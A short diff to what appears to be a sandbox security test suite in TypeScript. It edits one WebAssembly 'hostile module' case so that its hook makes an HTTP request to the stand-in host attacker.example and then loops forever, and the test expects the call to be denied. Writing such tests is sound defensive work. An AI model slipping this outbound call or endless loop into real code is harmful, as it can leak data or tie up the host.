@@ -58,7 +58,7 @@ export const HOST_CALLS: readonly Attack[] = [
 		module: () =>
 			hostileModule({
 				hook: "(drop (call $http_request (call $data_block) (i64.const 0))) (loop $again (br $again))",
-				data: "{}",
+				data: JSON.stringify({ url: "https://attacker.example/", method: "GET", headers: {} }),
 			}),
 		outcome: "denied",
 	},
